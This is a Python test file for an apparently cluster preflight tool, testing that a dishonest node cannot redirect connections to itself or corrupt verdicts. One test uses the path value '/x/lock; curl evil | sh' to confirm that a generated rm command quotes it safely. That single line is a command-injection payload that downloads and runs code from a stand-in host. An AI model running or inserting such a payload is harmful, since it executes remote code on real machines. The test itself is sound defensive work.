"""One node that lies cannot keep the others from being judged, nor speak to them through us."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace
from tests.checks.recorded import HELLO, first_questions
from tests.hostile.scripted import ScriptedNode, ScriptedTransport

from dslaunch.cluster.load import parse_cluster
from dslaunch.preflight.check import (
    Check,
    Flow,
    NodeAnswers,
    Question,
    Round,
    Scope,
    UnansweredError,
)
from dslaunch.preflight.checks import built_in, net_bandwidth, net_mesh
from dslaunch.preflight.checks._machine import address
from dslaunch.preflight.flow import FAULT, RunningFlow, findings_of, judged
from dslaunch.preflight.judge import judge
from dslaunch.preflight.logins import Logins
from dslaunch.preflight.recording import NodeRecording, Recording, read
from dslaunch.preflight.runner import Survey
from dslaunch.preflight.verdict import REACHED
from dslaunch.protocol.survey import Answer

TEXT = "nodes: [{host: 'n[1-3]', slots: 1}]\n"
CLUSTER = parse_cluster(TEXT, "c.yaml")
SCOPE = Scope(CLUSTER, CLUSTER.nodes, token="t")
CHECKS = built_in()


def interfaces(address: str) -> Answer:
    one = {"name": "eth0", "address": address, "loopback": False, "up": True}
    return {"value": [{**one, "speed": None, "mtu": 1500}]}


def mesh(**of_n2: Answer) -> dict[str, NodeAnswers]:
    """Three nodes that hold a port each; the second says something else."""
    asked_of = Round.of_all(SCOPE, net_mesh.ask(SCOPE)).asked
    nodes: dict[str, NodeAnswers] = {}
    for at, node in enumerate(SCOPE.nodes, 1):
        asked = asked_of[node.host]
        own: dict[str, Answer] = {
            "interfaces": interfaces(f"10.0.0.{at}"),
            "resolve": {"value": {}},
            "listen": {"value": {"port": 4000 + at}},
            **(of_n2 if node.host == "n2" else {}),
        }
        recorded = {asked[name].key: answer for name, answer in own.items()}
        nodes[node.host] = NodeAnswers(node, SCOPE, asked, recorded, HELLO)
    return nodes


def test_a_node_that_holds_no_port_is_not_dialed_by_the_others() -> None:
    """The program on an honest node would fail on a port that is none, and so would all calls."""
    nodes = mesh(listen={"value": {"port": None}})
    targets = {host: q.argument["targets"] for host, q in net_mesh.calls(nodes).items()}
    assert targets == {"n1": {"n3": ["10.0.0.3", 4003]}, "n3": {"n1": ["10.0.0.1", 4001]}}
    flow = RunningFlow(net_bandwidth.CHECK.flow(SCOPE))
    flow.answered(nodes)
    while flow.pending is not None:
        for asked in flow.pending.asked.values():
            for question in asked.values():
                assert question.argument["target"][1] in (4001, 4003)
        flow.answered(nodes)


CONNECTED = {"local": "10.0.0.1"}
LATE = {"error": "no answer to the connection", "late": True}


@pytest.mark.parametrize(("second", "unfit"), [(CONNECTED, []), (LATE, ["n2"])])
def test_only_a_call_that_fails_twice_makes_a_node_unfit(
    second: dict[str, Any], unfit: list[str]
) -> None:
    nodes = mesh()
    flow = RunningFlow(net_mesh.CHECK.flow(SCOPE))
    flow.answered(nodes)

    def answer(to_n2: dict[str, Any]) -> set[tuple[str, str]]:
        """Answer the calls of a round, and return them."""
        assert flow.pending is not None
        calls = set()
        for host, asked in flow.pending.asked.items():
            (question,) = asked.values()
            value = dict.fromkeys(question.argument["targets"], CONNECTED)
            calls |= {(host, to) for to in value}
            if host == "n1":
                value["n2"] = to_n2
            known = {**nodes[host].recorded, question.key: Answer(value=value)}
            nodes[host] = replace(nodes[host], recorded=known)
        flow.answered(nodes)
        return calls

    assert len(answer(LATE)) == 6
    assert answer(second) == {("n1", "n2")}
    assert [f.hosts[0] for f in flow.findings() if f.level == "fail"] == unfit


@pytest.mark.parametrize(
    "own", ["127.0.0.1", "::1", "0.0.0.0", "::", "224.0.0.1", "::ffff:127.0.0.1"]
)
def test_a_node_cannot_make_others_dial_themselves(own: str) -> None:
    nodes = mesh(interfaces=interfaces(own))
    assert address(nodes["n2"]) is None
    assert set(net_mesh.calls(nodes)) == {"n1", "n3"}


def test_a_command_to_copy_holds_a_nodes_path_as_one_word() -> None:
    check = CHECKS["sw.locks"]
    path = "/x/lock; curl evil | sh"
    asked = first_questions(check, SCOPE)["n1"]
    (question,) = (q for q in asked.values() if q.kind == "list")
    locks: Answer = {"value": [{"path": path, "size": 0, "age": 1e6}]}
    node = SCOPE.nodes[0]
    a = NodeAnswers(node, SCOPE, {}, {question.key: locks}, HELLO)
    (verdict,) = findings_of("sw.locks", check, SCOPE, {node.host: a})
    assert shlex.split(verdict.fix) == ["rm", path]


def facts(answers: dict[str, Answer]) -> Recording:
    nodes = {n.host: NodeRecording(HELLO, answers, (0.0, 0.0), 0.1) for n in SCOPE.nodes}
    return Recording(SCOPE, 1.0, nodes, {})


def bad_check() -> Check:
    def judge_one(a: NodeAnswers) -> list[Any]:
        raise KeyError("a value")

    return replace(CHECKS["shell.umask"], flow=judged(judge_one))


def test_a_check_that_raises_is_unknown_and_names_its_exception() -> None:
    report = judge(facts({}), {"a.bad": bad_check(), "shell.umask": CHECKS["shell.umask"]})
    found = {f.check: (f.level, f.found) for f in report.findings if f.check != REACHED}
    level, text = found["a.bad"]
    assert level == "unknown"
    assert text.startswith(f"{FAULT}: KeyError: 'a value' ({__name__}:")
    assert found["shell.umask"][0] == "pass"


def test_a_check_that_cannot_say_what_follows_is_noted() -> None:
    def flow(scope: Scope) -> Flow:
        nodes = yield Round.of_all(scope, {})
        raise UnansweredError(next(iter(nodes)))

    honest = {"hello": HELLO, "answers": {}, "clock": None}
    transport = ScriptedTransport({node.host: ScriptedNode(honest, honest) for node in SCOPE.nodes})
    check = replace(CHECKS["shell.umask"], flow=flow)
    logins = Logins(transport, SCOPE.nodes, at_once=3)
    survey = Survey(SCOPE, {"a.bad": check}, lambda *_: None, logins)
    assert set(survey.run()) == {"n1", "n2", "n3"}
    assert survey.faults == ["UnansweredError"]


def test_an_invalid_answer_of_a_recording_is_unknown_when_it_is_judged_again(
    tmp_path: Path,
) -> None:
    question = Question("path", "/dev/shm", 5)
    file = tmp_path / "facts.json"
    file.write_text(facts({question.key: {"value": {"size": "large"}}}).as_json(), "utf-8")
    again = read(file)
    report = judge(again, {"shm.size": CHECKS["shm.size"]})
    (tmp_path / "again.json").write_text(again.as_json(), "utf-8")
    assert read(tmp_path / "again.json") == again
    levels = {(f.check, f.level): f.hosts for f in report.findings}
    assert levels[REACHED, "unknown"] == ("n1", "n2", "n3")
    assert levels["shm.size", "unknown"] == ("n1", "n2", "n3")
